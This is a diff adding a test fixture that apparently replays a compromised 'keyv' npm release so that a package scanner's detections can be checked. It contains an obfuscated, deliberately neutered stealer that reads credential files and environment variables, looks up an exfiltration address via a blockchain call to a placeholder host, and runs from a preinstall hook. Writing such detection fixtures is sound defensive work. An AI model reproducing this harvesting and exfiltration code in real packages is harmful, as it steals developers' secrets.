@@ -1,0 +1,62 @@
+import { createHash } from 'node:crypto'
+import { obfuscated } from '../obfuscated.js'
+import { durations } from '../plain-modules.js'
+import { replayUpgrade } from '../upgrade.js'
+import { lines, startUnderBun } from '../worm.js'
+
+/** Of nobody: twenty bytes of a digest. */
+const contract = `0x${createHash('sha256').update('inert').digest('hex').slice(0, 40)}`
+
+const payload = obfuscated(
+  `
+const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
+async function $main(){const $found=[],$contract=«${contract}»;
+for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.docker/config.json»]){
+try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
+$found[«push»](JSON[«stringify»](process[«env»]));
+const $answer=await fetch(«https://eth-rpc.example»,{'method':«POST»,'body':JSON[«stringify»]({'method':«eth_call»,'params':[{'to':$contract,'data':«0x»},«latest»]})});
+const $where=(await $answer[«json»]())[«result»];
+await fetch($where,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
+}
+$main()[«catch»](()=>{});
+`,
+  300,
+)
+
+const manifest = { main: 'index.js' }
+const command = 'node setup.mjs'
+
+export const replay = replayUpgrade({
+  description:
+    'A maintainer’s account on the forge was taken over, and the release came through the project’s own pipeline with valid provenance: ' +
+    'before install, a loader fetched another runtime for a stealer that read from a contract on a blockchain where to send what it found.',
+  date: '2026-08-04',
+  name: 'keyv',
+  from: ['5.5.3', { manifest, files: { 'index.js': durations } }],
+  to: [
+    '6.0.0',
+    {
+      manifest: { ...manifest, scripts: { preinstall: command } },
+      files: { 'index.js': durations, 'setup.mjs': startUnderBun('Math_Symbol.js'), 'Math_Symbol.js': payload },
+    },
+  ],
+  findings: [
+    ['install-script-dangerous', 'critical', { file: 'Math_Symbol.js', line: payload }],
+    ['remote-code-run', 'critical', { file: 'setup.mjs', line: lines.fetchRuntime }],
+    ['secrets-exfiltrated', 'critical', { file: 'Math_Symbol.js', line: payload }],
+    ['secrets-harvested', 'critical', { file: 'Math_Symbol.js', line: payload }],
+    ['combined-risk', 'critical'],
+    [
+      'capability-added',
+      'high',
+      {
+        file: 'setup.mjs',
+        line: lines.unpackRuntime,
+      },
+    ],
+    ['code-obfuscated', 'high', { file: 'Math_Symbol.js' }],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['beacon-added', 'high', { file: 'Math_Symbol.js', line: payload }],
+    ['network-host-added', 'medium', { file: 'Math_Symbol.js', line: payload }],
+  ],
+})
